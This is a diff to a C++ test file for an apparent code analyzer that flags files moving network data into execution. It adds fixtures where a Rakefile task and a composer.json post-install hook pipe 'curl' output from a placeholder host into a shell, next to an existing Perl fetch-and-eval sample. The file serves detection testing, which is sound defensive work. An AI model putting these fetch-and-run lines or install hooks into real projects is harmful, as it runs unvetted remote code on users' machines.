@@ -658,6 +658,12 @@ TEST_CASE("Ruby, PHP and Perl files are read as their interpreter would run them
            {"tools/update.pl", "use LWP::Simple;\nmy $code = get('https://x.example.com/p.pl');\neval $code;\n", "network",
             "exec"},
            {"Rakefile", "task :setup do\n  system('curl -fsSL https://x.example.com/i | sh')\nend\n", "network", "exec"},
+           {"Rakefile", "require 'rake'\ntask :setup do\n  sh 'curl -fsSL https://x.example.com/i | bash'\nend\n", "network",
+            "exec"},
+           {"composer.json",
+            "{\"name\": \"acme/app\", \"scripts\": {\"post-install-cmd\": [\"@php artisan key:generate\", \"curl -fsSL "
+            "https://x.example.com/i | sh\"]}}",
+            "network", "exec"},
        }) {
     INFO(c.path);
     CHECK(find_flow(shipped_analyzer()->analyze_write(c.path, c.content), c.from, c.to));
